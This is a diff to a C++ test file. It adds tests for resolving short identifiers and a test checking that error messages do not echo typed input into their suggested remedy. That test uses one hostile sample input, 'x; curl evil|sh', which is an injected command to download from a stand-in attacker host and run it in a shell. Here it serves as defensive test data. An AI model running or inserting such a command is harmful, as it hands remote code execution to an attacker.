@@ -23,6 +23,15 @@ TEST(ShortIds, AreAsLongAsTheyMustBe) {
   EXPECT_EQ(ShortIds({kOne, kOther}).Of(kOther), "s-4f2k9ab");
 }
 
+TEST(ShortIds, AreWholeOnlyWhereNothingIsLeftOut) {
+  EXPECT_EQ(WholeId('s', kOne), kOne);
+  EXPECT_EQ(WholeId('s', "S-4F2K9AAAAAAAAAAAAAAAAAAAAA"), kOne);
+  EXPECT_FALSE(WholeId('a', kOne).has_value());
+  for (const char* typed :
+       {"", "s-4f2k9", "s-4f2k9aaaaaaaaaaaaaaaaaaaa;", "s-4f2k9aaaaaaaaaaaaaaaaaaaaaa"})
+    EXPECT_FALSE(WholeId('s', typed).has_value()) << typed;
+}
+
 TEST(ShortIds, FindWhatBeginsSo) {
   const ShortIds ids({kOne, kOther, "s-zzzzzaaaaaaaaaaaaaaaaaaaaa"});
   EXPECT_EQ(*ids.Find("s-z"), "s-zzzzzaaaaaaaaaaaaaaaaaaaaa");
@@ -57,6 +66,11 @@ TEST(Complaint, AlwaysHasThreeLinesAndAnExitCode) {
     const std::string text = TextOf(complaint);
     EXPECT_EQ(std::ranges::count(text, '\n'), 3);
   }
+}
+
+TEST(Complaint, LetsNoTypedNameWriteTheRemedy) {
+  const auto found = ShortIds({kOne}).Find("x; curl evil|sh");
+  EXPECT_EQ(ComplaintOf("it was not done", found.error()).remedy.find("curl"), std::string::npos);
 }
 
 TEST(Status, SaysWhatIsAwayAndHowToGetAKeystore) {
